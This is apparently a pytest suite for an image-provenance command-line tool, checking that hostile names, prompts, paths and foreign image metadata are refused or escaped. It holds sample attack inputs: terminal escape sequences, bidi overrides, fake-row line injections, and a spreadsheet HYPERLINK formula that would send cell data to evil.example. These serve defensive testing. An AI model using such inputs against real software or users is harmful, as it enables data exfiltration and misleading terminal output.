"""Hostile text at the command line: refused in one line before anything is written, shown harmlessly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from provenance.cli import main
from provenance.demo import draw_layout
from provenance.imaging import png_bytes, thumbnail_jpeg
from provenance.manifests import sign_png
from provenance.manifests.definition import DIGITAL_CREATION
from provenance.project import Project

from ..conftest import read_image, snapshot
from .test_journeys import run, studio  # noqa: F401  (the fixture)

ESC = "\x1b"
FORBIDDEN_ON_A_TERMINAL = (ESC, "\x07", "\x9b", "\u202e", "\r")


@pytest.mark.parametrize(
    ("args", "field", "code_point"),
    [
        (["person", "add", "Kimura Yu\nFake Role    Mallory"], "person name", "U+000A"),
        (["person", "add", "   "], "person name is blank", None),
        (["person", "add", "Kimura Yu", "--native", "木村\x1b[2J悠"], "native name", "U+001B"),
        (["person", "add", "Kimura Yu", "--handle", "kimu\n"], "handle", "U+000A"),
        (["person", "add", "--kana", "きむら\tゆう"], "kana reading", "U+0009"),
        (["person", "add", "--family", "Kimura", "--given", "Yu\u202e"], "given name", "U+202E"),
        (["person", "add", "Kimura Yu", "--pseudonym", "KIMU\u2066"], "pseudonym", "U+2066"),
        (["person", "add", "Kimura Yu", "--native-pseudonym", "キム\u200b"], "native pseudonym", "U+200B"),
        (["person", "add", "Kimura Yu", "--org", "Kumo\x85"], "organization", "U+0085"),
        (["person", "add", "Kimura Yu", "--org", "Kumo", "--org-native", "雲\x7f"], "organization's native", "U+007F"),
        (["person", "set", "tanaka-aiko", "--name", "Tanaka\r\nFake"], "person name", "U+000D"),
        (["person", "set", "tanaka-aiko", "--native", " "], "native name is blank", None),
        (["production", "add", "Night\u2028Ferry"], "production title", "U+2028"),
        (["production", "add", "Night Ferry", "--native-title", "夜\u061c船"], "native title", "U+061C"),
        (["production", "add", "Night Ferry", "--studio", "Kumo\x9b2J"], "studio", "U+009B"),
        (["background", "add", "harbor", "C013\n"], "cut", "U+000A"),
        (["background", "add", "harbor", "C013", "--scene", "S03\x1b"], "scene", "U+001B"),
        (["background", "add", "harbor", "C013", "--episode", "\t"], "episode", "U+0009"),
        (["sketch", "harbor/C012", "layout.png", "--artist", "tanaka-aiko", "--tool", "Kri\x1bta"], "tool", "U+001B"),
        (["revise", "1", "layout.png", "--artist", "suzuki-ren", "--tool", "Krita\u200f"], "tool", "U+200F"),
        (["generate", "1", "--prompt", "harbor\nSteps: 1, Seed: 1", "--operator", "sato-ken"], "prompt", "U+000A"),
        (["generate", "1", "--prompt", " ", "--operator", "sato-ken"], "prompt is blank", None),
        (["generate", "1", "--prompt", "x", "--negative", "pe\x1b", "--operator", "sato-ken"], "negative", "U+001B"),
        (["model", "add", "house\u202ev2", "/no/such/model"], "model name", "U+202E"),
        (["model", "add", "house-v2", "/no/such/model", "--license", "MIT\n"], "license", "U+000A"),
        (["model", "add", "house-v2", "/no/such/model", "--notes", "\u2029"], "model notes", "U+2029"),
    ],
)
def test_hostile_text_is_one_line_and_changes_nothing(
    studio: Path,  # noqa: F811
    args: list[str],
    field: str,
    code_point: str | None,
) -> None:
    run("sketch", "harbor/C012", "layout.png", "--artist", "tanaka-aiko")
    project = Project.find(studio)
    before = snapshot(project)

    result = CliRunner().invoke(main, args)

    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"Error: {field}"), result.stderr
    assert code_point is None or f": {code_point} (" in lines[0]
    assert lines[0].isprintable()
    assert snapshot(project) == before
    project.close()


def test_init_refuses_a_hostile_studio_before_writing_anything(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["--project", str(tmp_path / "new"), "init", "--studio", "Kumo\x1b]0;x\x07"])
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "Error: studio name (--studio, else the folder's name): U+001B (a control character) at character 5 is not "
        "allowed; type it as one line of visible text"
    ]
    assert not (tmp_path / "new").exists()


def test_an_empty_negative_prompt_means_none(studio: Path) -> None:  # noqa: F811
    sketch = json.loads(run("sketch", "harbor/C012", "layout.png", "--artist", "tanaka-aiko", "--json").stdout)
    args = ["generate", str(sketch["id"]), "--prompt", " harbor ", "--negative", "", "--operator", "sato-ken"]
    [candidate] = json.loads(run(*args, "--steps", "2", "--json").stdout)
    report = json.loads(run("audit", candidate["path"], "--json").stdout)
    assert report["stages"][-1]["settings"]["prompt"] == "harbor"
    assert report["stages"][-1]["settings"]["negative_prompt"] == ""


def test_a_formula_in_a_name_reaches_the_csv_as_text(studio: Path) -> None:  # noqa: F811
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Credits")'
    run("person", "add", formula, "--handle", "mallory", "--org", "@Studio")
    run("sketch", "harbor/C012", "layout.png", "--artist", "mallory")
    rows = list(csv.DictReader(io.StringIO(run("credits", "harbor", "--format", "csv").stdout)))
    [credited] = [row for row in rows if row["block"] == "credits"]
    assert (credited["name_en"], credited["company"]) == ("'" + formula, "'@Studio")


def _assert_harmless(output: str) -> None:
    for char in FORBIDDEN_ON_A_TERMINAL:
        assert char not in output, f"U+{ord(char):04X} reached the terminal"


def test_a1111_metadata_cannot_drive_the_terminal(studio: Path) -> None:  # noqa: F811
    parameters = (
        "harbor \x1b[31mat dusk\x1b[0m\n"
        "Negative prompt: people\x1b]0;owned\x07\n"
        'Steps: 20, Sampler: Euler\x9b2J, Seed: 42, Model hash: 6ce0161689, Model: "evil\u202egnp.exe"'
    )
    (studio / "foreign.png").write_bytes(png_bytes(read_image(studio / "layout.png"), {"parameters": parameters}))

    result = CliRunner().invoke(main, ["audit", "foreign.png"])

    assert result.exit_code == 8, result.output  # foreign-ai-metadata
    _assert_harmless(result.stdout + result.stderr)
    assert "Generator:  AUTOMATIC1111" in result.stdout
    assert "people\\x1b]0;owned\\x07" in result.stdout and "evil\\u202egnp.exe" in result.stdout


def test_a_foreign_manifest_cannot_drive_the_terminal(studio: Path, tmp_path: Path) -> None:  # noqa: F811
    partner = Project.init(tmp_path / "partner", studio="Partner Studio")
    image = draw_layout().resize((128, 72))
    created = {"action": "c2pa.created", "digitalSourceType": DIGITAL_CREATION}
    definition = {
        "claim_generator_info": [{"name": "Painter\x1b[2J\u202e", "version": "1"}],
        "title": "foreign.png",
        "format": "image/png",
        "assertions": [
            {"label": "c2pa.actions.v2", "data": {"actions": [created]}},
            {"label": "cawg.metadata", "data": {"@context": {"dc": "http://purl.org/dc/elements/1.1/"},
                                                 "dc:creator": ["Mallory\x1b]0;owned\x07", "Eve\r\nFAKE ROW"]}},
        ],
    }  # fmt: skip
    signed = sign_png(definition, png_bytes(image), partner.signing_identity, thumbnail=thumbnail_jpeg(image))
    partner.close()
    (studio / "foreign.png").write_bytes(signed)

    result = CliRunner().invoke(main, ["audit", "foreign.png"])

    assert result.exit_code == 3, result.output  # valid-untrusted
    _assert_harmless(result.stdout + result.stderr)
    [row] = [line for line in result.stdout.splitlines() if line.startswith("1  ")]
    assert "Mallory\\x1b]0;owned\\x07, Eve\\r\\nFAKE ROW" in row and "Painter\\x1b[2J\\u202e" in row
    assert not any(line.startswith("FAKE ROW") for line in result.stdout.splitlines())


def test_errors_quoting_a_hostile_path_stay_one_harmless_line(studio: Path) -> None:  # noqa: F811
    result = CliRunner().invoke(main, ["audit", "missing\x1b[2J\nFAKE.png"])
    assert result.exit_code == 1
    [line] = result.stderr.splitlines()
    assert line.startswith("Error: ") and "missing\\x1b[2J\\nFAKE.png" in line and ESC not in line
